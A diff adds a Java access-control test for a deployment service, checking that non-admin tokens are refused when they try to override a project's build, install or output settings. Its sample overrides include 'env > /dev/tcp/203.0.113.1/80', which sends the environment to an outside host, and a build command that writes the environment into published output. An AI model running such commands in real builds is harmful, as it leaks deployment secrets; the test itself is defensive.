@@ -475,6 +475,38 @@ class AccessTest {
     }
 
     @Test
+    void onlyAnAdminMayChangeWhatAProjectsBuildRunsForOneDeploymentSinceItRunsWithTheProjectsEnv() {
+        long before = servers.redis().hlen("status");
+        Map<String, String> changes = Map.of(
+                "buildCommand", "mkdir -p dist && env > dist/env.txt",
+                "installCommand", "env > /dev/tcp/203.0.113.1/80",
+                "rootDirectory", "docs",
+                "outputDirectory", "node_modules");
+        for (Who who : List.of(Who.DEPLOY_THIS_PROJECT, Who.DEPLOY_ANY)) {
+            changes.forEach((setting, value) -> {
+                HttpResponse<String> refused =
+                        client(TOKENS.get(who)).post("/deploy", Map.of("project", PROJECT, setting, value));
+
+                assertThat(refused.statusCode())
+                        .as(who + " " + setting + ": " + refused.body())
+                        .isEqualTo(403);
+                assertThat(read(refused).get("detail").asString())
+                        .contains("only an admin token may change")
+                        .contains("PATCH /projects/" + PROJECT);
+            });
+        }
+        assertThat(servers.redis().hlen("status")).as("nothing was accepted").isEqualTo(before);
+
+        HttpResponse<String> variables = client(TOKENS.get(Who.DEPLOY_THIS_PROJECT))
+                .post("/deploy", Map.of("project", PROJECT, "env", Map.of("GREETING", "hello"), "cache", false));
+        HttpResponse<String> admin =
+                client(ADMIN).post("/deploy", Map.of("project", PROJECT, "buildCommand", "npm run build:docs"));
+
+        assertThat(variables.statusCode()).as(variables.body()).isEqualTo(202);
+        assertThat(admin.statusCode()).as(admin.body()).isEqualTo(202);
+    }
+
+    @Test
     void tokenRequestsThatCannotBeATokenAre400AndMakeNone() {
         long before = client(ADMIN).getJson("/tokens").size();
 
